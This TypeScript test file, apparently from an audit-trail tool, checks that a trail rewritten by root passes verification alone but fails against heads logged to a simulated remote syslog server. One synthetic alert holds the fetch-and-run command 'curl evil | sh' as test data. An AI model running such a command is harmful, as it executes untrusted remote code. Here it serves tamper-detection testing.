/** Heads in a second place: root rewrites the whole trail with its heads, and the lines of a syslog server tell. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { appendFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import test from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { startAuditor } from '@ringfence/auditor';
import { silentLog } from '@ringfence/base';
import { openEmbeddedBus } from '@ringfence/bus';
import { createTestAlert } from '@ringfence/synthetic';
import { encode, TOPIC, topicsWith } from '@ringfence/wire';
import { ringfence } from './support.ts';

const RECORDS = 20;

/** Plays a syslog server on another machine, which keeps the text of each message behind a date and a name. */
async function listen(file: string): Promise<AsyncDisposable & { readonly url: string }> {
  const server = createServer((socket) => {
    let text = '';
    socket.on('error', () => {});
    socket.setEncoding('utf8').on('data', (chunk: string) => {
      text += chunk;
      for (let frame = /^(\d+) /.exec(text); frame !== null; frame = /^(\d+) /.exec(text)) {
        const end = frame[0].length + Number(frame[1]);
        if (text.length < end) return;
        const message = text.slice(frame[0].length, end).replace(/^.*\] /, '');
        appendFileSync(file, `Dec  1 11:00:00 web-1 ringfence[7]: ${message}\n`);
        text = text.slice(end);
      }
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const url = `tcp://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url, [Symbol.asyncDispose]: async () => void server.close() };
}

/** Runs an auditor over alerts, of which number 3 has this output, until all are stored. */
async function writeTrail(directory: string, output: string, headSyslog: string): Promise<void> {
  await using bus = await openEmbeddedBus({ path: join(directory, 'bus.db') });
  await bus.ensureTopics(topicsWith(1));
  const alerts = Array.from({ length: RECORDS }, (_, i) => createTestAlert(i, i === 3 ? { output } : {}));
  await bus.produce(alerts.map((alert) => ({ topic: TOPIC.alerts, key: 'h', value: encode('Alert', alert) })));
  const options = { path: join(directory, 'audit.db'), headSyslog, headRecords: 5 };
  await using auditor = await startAuditor({ options, bus, log: silentLog });
  while (auditor.stats().stored.alert < RECORDS) await sleep(10);
}

test('a trail that was rewritten with its heads passes on its own, and not with the lines of the syslog server', async (t) => {
  const directory = mkdtempSync(join(tmpdir(), 'rf-heads-'));
  t.after(() => rmSync(directory, { recursive: true }));
  const file = join(directory, 'loghost.log');
  writeFileSync(file, 'Dec  1 10:59:59 web-1 sshd[1]: another line\n');
  await using server = await listen(file);
  await writeTrail(directory, 'curl evil | sh', server.url);
  for (let tries = 0; tries < 500 && !readFileSync(file, 'utf8').includes('audit-head='); tries++) await sleep(10);
  const env = { RINGFENCE_STATE_DIR: directory };
  const verify = (...args: readonly string[]) => ringfence(['audit', 'verify', ...args], env);
  const intact = await verify('--heads', file);
  assert.equal(intact.code, 0, intact.stdout + intact.stderr);

  // Root makes a whole new trail and new heads, and gives it the name of the old one.
  const former = new DatabaseSync(join(directory, 'audit.db'));
  const { name = '' } = former.prepare('SELECT name FROM trail').get() as { name?: string };
  former.close();
  for (const old of ['audit.db', 'audit.db-wal', 'audit.db-shm', 'bus.db', 'bus.db-wal', 'bus.db-shm'])
    rmSync(join(directory, old), { force: true });
  const db = new DatabaseSync(join(directory, 'audit.db'));
  db.exec('CREATE TABLE trail (name TEXT PRIMARY KEY)');
  db.prepare('INSERT INTO trail VALUES (?)').run(name);
  db.close();
  await writeTrail(directory, 'nothing to see', '');

  const alone = await verify();
  assert.deepEqual([alone.code, /the trail is intact/.test(alone.stdout)], [0, true]);
  const compared = await verify('--heads', file);
  assert.equal(compared.code, 1);
  assert.match(compared.stdout, /changed +ringfence\.alerts\/0 alert record \d+/);
  const wrong = await verify('--heads', join(directory, 'bus.db'));
  assert.deepEqual([wrong.code, /has no heads/.test(wrong.stderr)], [1, true]);
});
